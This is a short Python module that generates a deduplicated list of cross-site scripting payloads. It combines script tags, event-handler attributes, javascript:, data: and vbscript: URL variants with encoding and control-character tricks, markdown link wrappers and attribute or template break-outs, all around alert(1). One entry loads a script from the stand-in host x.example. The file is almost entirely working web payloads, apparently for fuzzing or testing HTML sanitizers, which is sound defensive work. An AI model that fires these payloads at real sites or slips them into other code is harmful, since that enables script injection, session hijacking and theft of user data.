"""Hostile texts, made by putting together what browsers have once run."""

from itertools import product

CODE = "alert(1)"
ELEMENTS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//x.example/a.js></script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img """><script>{}</script>">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<form action=javascript:{}><input type=submit>",
    "<button formaction=javascript:{}>x</button>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<a href=javascript:{}>x</a>",
    "<style>@import 'javascript:{}';</style>",
    "<p style=background:url(javascript:{})>x</p>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea><script>{}</script></textarea>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<xmp><script>{}</script></xmp>",
]
ADDRESSES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript\x00:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "javascript&colon;{}",
    "jav&#x0A;ascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "blob:javascript:{}",
    "//x.example/%0a{}",
]
MARKDOWN = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[x][y]\n\n[y]: {}",
    "- [x]({})",
    "> [x]({})",
    "**[x]({})**",
    "# [x]({})",
]
BROKEN_OUT = [
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}{}{{% endraw %}}",
    "${{{}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\u2028<script>{}</script>\u2029",
    "`<script>{}</script>`",
    "    <script>{}</script>",
    "```html\n<script>{}</script>\n```",
    "> <img src=x onerror={}>",
    "- <svg/onload={}>",
    "| <script>{}</script> |\n|---|\n| x |",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\ufeff<script>{}</script>",
    "\u202e<script>{}</script>",
]


def payloads() -> list[str]:
    """All of them, each once."""
    made = [shape.format(CODE) for shape in (*ELEMENTS, *ADDRESSES, *BROKEN_OUT)]
    made += [shape.format(address.format(CODE)) for shape, address in product(MARKDOWN, ADDRESSES)]
    return list(dict.fromkeys(made))
